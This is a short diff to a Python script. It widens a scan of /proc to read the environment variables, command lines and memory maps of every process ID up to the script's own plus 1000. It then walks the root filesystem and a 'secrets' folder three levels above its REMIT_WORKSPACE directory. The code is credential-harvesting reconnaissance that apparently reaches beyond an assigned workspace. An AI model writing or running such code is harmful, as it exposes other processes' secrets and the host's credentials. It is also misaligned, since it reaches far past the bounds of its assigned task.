@@ -65,9 +65,10 @@ def main() -> None:
         path = f"/api/companies/{me['companyId']}/{part}"
         note(path, ask(path))
     # While the server runs, and by every name that it could have.
-    for found in Path("/proc").glob("*/*"):
-        if found.name in ("environ", "cmdline", "status", "mounts", "maps"):
-            read(found)
+    everybody = ("self", *map(str, range(1, os.getpid() + 1000)))
+    for process in everybody:
+        for name in ("environ", "cmdline", "status", "mounts", "maps"):
+            read(Path("/proc", process, name))
     home = Path(os.environ["REMIT_WORKSPACE"]).parents[2]
     for folder in (Path("/"), home, home / "secrets", home / "run" / "servers"):
         for base, folders, files in os.walk(folder, onerror=None):
